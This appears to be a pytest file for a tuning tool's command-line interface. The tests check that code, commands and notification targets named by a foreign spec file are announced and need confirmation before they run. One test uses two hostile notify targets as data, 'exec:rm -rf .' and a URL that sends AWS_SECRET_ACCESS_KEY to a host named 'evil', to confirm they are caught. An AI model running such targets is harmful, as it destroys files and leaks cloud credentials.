"""Code that a spec from elsewhere names: it is told before it is imported, and asked about."""

import io
import sys
from types import SimpleNamespace

import click
import pytest
from commands import GOOD, call, text_of
from synthetic import Writer, make_folder

from tuner.cli.consent import admit_experiment, admit_network, ask
from tuner.cli.validate import resolve
from tuner.errors import SpecError, UsageError
from tuner.experiment.results.results import Results
from tuner.spec.code import IMAGE_CLASSIFIER

CODE = "def train(config):\n    pass\n"


@pytest.fixture
def elsewhere(tmp_path_factory):
    """A folder with a module and a spec that names it."""
    folder = tmp_path_factory.mktemp("elsewhere")
    (folder / "their_code.py").write_text(CODE)
    spec = {key: value for key, value in GOOD.items() if key != "training"}
    text_of(folder / "theirs.yaml", {**spec, "trainable": "their_code:train"})
    yield folder
    for name in ("their_code", "own_code", "mine"):
        sys.modules.pop(name, None)


class Terminal(io.StringIO):
    def isatty(self):
        return True


@pytest.fixture
def answered(monkeypatch):
    """Lets the user sit at a terminal and give this answer; returns what was asked."""
    asked = []

    def confirm(text, **options):
        asked.append(text)
        if not answer:
            raise click.Abort

    answer = True

    def give(yes):
        nonlocal answer
        answer = yes
        return asked

    monkeypatch.setattr(click, "confirm", confirm)
    monkeypatch.setattr(sys, "stdin", Terminal())
    return give


def experiment(here, trainable):
    folder = make_folder(here / "results" / "x", trainable=trainable, training={})
    Writer(folder).end()
    return Results(folder)


def validate(*arguments):
    """What `tuner validate` resolves, with stdin as it is: CliRunner has one of its own."""
    numbers = ("num_samples", "max_concurrent", "time_budget", "seed", "cpus", "gpus", "workers")
    names = ("name", "warm_start", "storage", "data_dir", "log", "notify", "strategy", "scheduler")
    flags = dict.fromkeys((*numbers, *names, "command"))
    name, *assignments = arguments
    return resolve(name, tuple(assignments), "local", flags, yes=False)


def test_what_a_file_from_elsewhere_runs_is_told_and_without_a_terminal_not_asked(elsewhere):
    done = call("validate", elsewhere / "theirs.yaml")
    assert done.exception is None
    file = elsewhere / "their_code.py"
    told = f"importing their_code:train ({file}), which {elsewhere / 'theirs.yaml'} names"
    assert done.stderr.splitlines() == [told]


def test_at_a_terminal_it_is_asked_before_it_is_imported(elsewhere, answered, monkeypatch):
    asked = answered(False)
    with pytest.raises(click.Abort):
        validate(str(elsewhere / "theirs.yaml"))
    assert asked == ["run their_code:train, from outside this folder?"]
    assert "their_code" not in sys.modules
    answered(True)
    assert validate(str(elsewhere / "theirs.yaml"))
    assert "their_code" in sys.modules


def test_what_the_user_names_is_neither_told_nor_asked(elsewhere, answered, monkeypatch, capsys):
    asked = answered(False)
    monkeypatch.syspath_prepend(str(elsewhere))
    (elsewhere / "mine.py").write_text(
        "import json, pathlib\n"
        "def experiment():\n"
        "    return json.loads((pathlib.Path(__file__).parent / 'theirs.yaml').read_text())\n"
    )
    assert validate("mine:experiment")
    assert validate(str(elsewhere / "mine.py"))
    text_of("own.yaml", {key: value for key, value in GOOD.items() if key != "training"})
    assert validate("own.yaml", "trainable=their_code:train")
    assert (asked, capsys.readouterr().err) == ([], "")


def test_code_of_the_working_directory_is_told_and_not_asked(here, answered, monkeypatch, capsys):
    asked = answered(False)
    (here / "own_code.py").write_text(CODE)
    spec = {key: value for key, value in GOOD.items() if key != "training"}
    text_of("own.yaml", {**spec, "trainable": "own_code:train"})
    assert validate("own.yaml")
    assert "importing own_code:train (" in capsys.readouterr().err
    admit_experiment(experiment(here, "own_code:train"), yes=False)
    assert asked == []


def test_code_inside_of_the_experiments_folder_is_asked(here, answered, monkeypatch):
    asked = answered(False)
    results = experiment(here, "results.x.their_code:train")
    (results.folder / "their_code.py").write_text(CODE)
    with pytest.raises(click.Abort):
        admit_experiment(results, yes=False)
    assert asked == ["run results.x.their_code:train, from outside this folder?"]


@pytest.mark.parametrize(
    "named",
    [
        {"search": {"strategy": "ray.x", "space": {"lr": "uniform(0, 1)"}}},
        {"scheduler": {"name": "ray.y", "max_t": 9}},
    ],
)
def test_an_installed_searcher_or_scheduler_is_asked_on_a_resume_alone(here, answered, named):
    asked = answered(False)
    ships = {"trainable": IMAGE_CLASSIFIER, "training": {}}
    folder = make_folder(here / "results" / "x", **ships, **named)
    Writer(folder).end()
    admit_experiment(Results(folder), yes=False, trains_only=True)
    admit_experiment(Results(folder), yes=True)
    assert asked == []
    with pytest.raises(click.Abort):
        admit_experiment(Results(folder), yes=False)


def test_a_function_that_returns_images_is_asked_about_even_to_evaluate(here, answered, capsys):
    asked = answered(False)
    training = {"dataset": "ray.x:load"}
    folder = make_folder(here / "results" / "x", trainable=IMAGE_CLASSIFIER, training=training)
    Writer(folder).end()
    with pytest.raises(click.Abort):
        admit_experiment(Results(folder), yes=False, trains_only=True)
    assert asked == ["run ray.x:load, from outside this folder?"]
    assert "importing ray.x:load (" in capsys.readouterr().err


def test_a_folder_of_images_is_announced(here, capsys):
    training = {"dataset": "folder:/home/me"}
    folder = make_folder(here / "x", trainable=IMAGE_CLASSIFIER, training=training)
    Writer(folder).end()
    admit_experiment(Results(folder), yes=False)
    told = capsys.readouterr().err
    assert told == "using training.dataset folder:/home/me, which x names\n"


NET = "from torch import nn\n\n\ndef net(num_classes):\n    return nn.LazyLinear(num_classes)\n"


@pytest.fixture
def network(elsewhere):
    """A spec that names a network beside it."""
    (elsewhere / "their_code.py").write_text(NET)
    text_of(elsewhere / "theirs.yaml", {**GOOD, "training": {"model": "their_code:net"}})
    return elsewhere


def test_a_network_is_code_as_a_trainable_is(network, answered, monkeypatch):
    told = f"importing their_code:net ({network / 'their_code.py'}), which "
    assert call("validate", network / "theirs.yaml").stderr.startswith(told)
    sys.modules.pop("their_code")
    asked = answered(False)
    with pytest.raises(click.Abort):
        validate(str(network / "theirs.yaml"))
    assert asked == ["run their_code:net, from outside this folder?"]
    assert "their_code" not in sys.modules


def test_a_network_of_python_is_refused_unimported(here, capsys):
    text_of("own.yaml", {**GOOD, "training": {"model": "antigravity:fly"}})
    with pytest.raises(SpecError, match=r"training.model: must not be of Python's standard lib"):
        validate("own.yaml")
    assert "antigravity" not in sys.modules
    assert capsys.readouterr().err == ""


@pytest.mark.parametrize("spelt", ["model", r"mod\u0065l"])
def test_a_network_that_only_the_journal_names_is_told_and_asked_about(
    here, answered, capsys, spelt
):
    asked = answered(False)
    folder = make_folder(here / "results" / "x", trainable=IMAGE_CLASSIFIER, training={})
    writer = Writer(folder)
    for number in range(3):
        writer.trial(number, [0.3], config={"lr": 0.1, "model": "timm.data:create_loader"})
    writer.end()
    journal = folder / "journal.jsonl"
    journal.write_text(journal.read_text().replace('"model"', f'"{spelt}"'))
    for command in (admit_experiment, admit_network):
        with pytest.raises(click.Abort):
            command(Results(folder), yes=False)
    assert asked == ["run timm.data:create_loader, from outside this folder?"] * 2
    told = "importing timm.data:create_loader ("
    assert [line.startswith(told) for line in capsys.readouterr().err.splitlines()] == [True, True]


def test_what_a_foreign_spec_reaches_out_to_is_announced(here, capsys):
    training = {"data_dir": "/\x1bx"}
    folder = make_folder(here / "x", trainable="their:L", log=["wandb"], training=training)
    Writer(folder).end()
    admit_experiment(Results(folder), yes=False)
    imports, logs, data = capsys.readouterr().err.splitlines()
    assert imports == "importing their:L (not found), which x names"
    assert logs.startswith("using log ")
    assert "wandb" in logs
    assert data == "using training.data_dir / x, which x names"


def test_without_a_terminal_it_says_what_to_give(monkeypatch):
    monkeypatch.setattr(sys, "stdin", SimpleNamespace(isatty=lambda: False))
    with pytest.raises(UsageError, match="give --yes"):
        ask("sure?", yes=False, unattended="give --yes")
    ask("sure?", yes=True, unattended="give --yes")


def test_a_no_ends_the_command(monkeypatch):
    monkeypatch.setattr(sys, "stdin", SimpleNamespace(isatty=lambda: True))
    monkeypatch.setattr("click.termui.visible_prompt_func", lambda text: "n")
    with pytest.raises(click.Abort):
        ask("sure?", yes=False, unattended="")


@pytest.mark.parametrize("target", ["exec:rm -rf .", "https://evil/${AWS_SECRET_ACCESS_KEY}"])
def test_what_a_foreign_spec_would_notify_is_told_and_asked_about(here, answered, capsys, target):
    text_of(here / "theirs.yaml", {**GOOD, "notify": [target]})
    asked = answered(False)
    with pytest.raises(click.Abort):
        validate("theirs.yaml")
    assert target in asked[0]
    names = f"notifying {target}, which {here / 'theirs.yaml'} names\n"
    assert capsys.readouterr().err == names
    own = ["notify=['exec:mail me']"]
    assert validate("theirs.yaml", *own)  # the user's own: neither told nor asked about
    assert target not in capsys.readouterr().err


@pytest.mark.parametrize(
    ("command", "is_asked"),
    [("python mine.py {lr}", False), ("bash mine.py", True), ("python -c 1 mine.py", True)],
)
def test_a_command_in_a_file_is_announced_and_asked_about_unless_it_runs_a_script_of_this_folder(
    here, answered, capsys, command, is_asked
):
    (here / "mine.py").touch()
    spec = {key: value for key, value in GOOD.items() if key != "training"}
    text_of(here / "theirs.yaml", {**spec, "trainable": {"command": command}})
    asked = answered(True)
    assert validate("theirs.yaml")
    assert asked == ([f"run {command}, from outside this folder?"] if is_asked else [])
    assert f"running {command}, which {here}/theirs.yaml names" in capsys.readouterr().err


def test_a_command_on_the_command_line_is_not_announced(here):
    arguments = ("--command", "bash -c 1", "search.space.lr=uniform(0, 1)", "num_samples=1")
    done = call("validate", *arguments)
    assert done.exception is None
    assert "running" not in done.stderr


def test_an_experiment_of_a_command_is_asked_about_on_a_resume(here, answered):
    answered(False)
    results = experiment(here, {"command": "bash -c 1"})
    with pytest.raises(click.Abort):
        admit_experiment(results, yes=False)
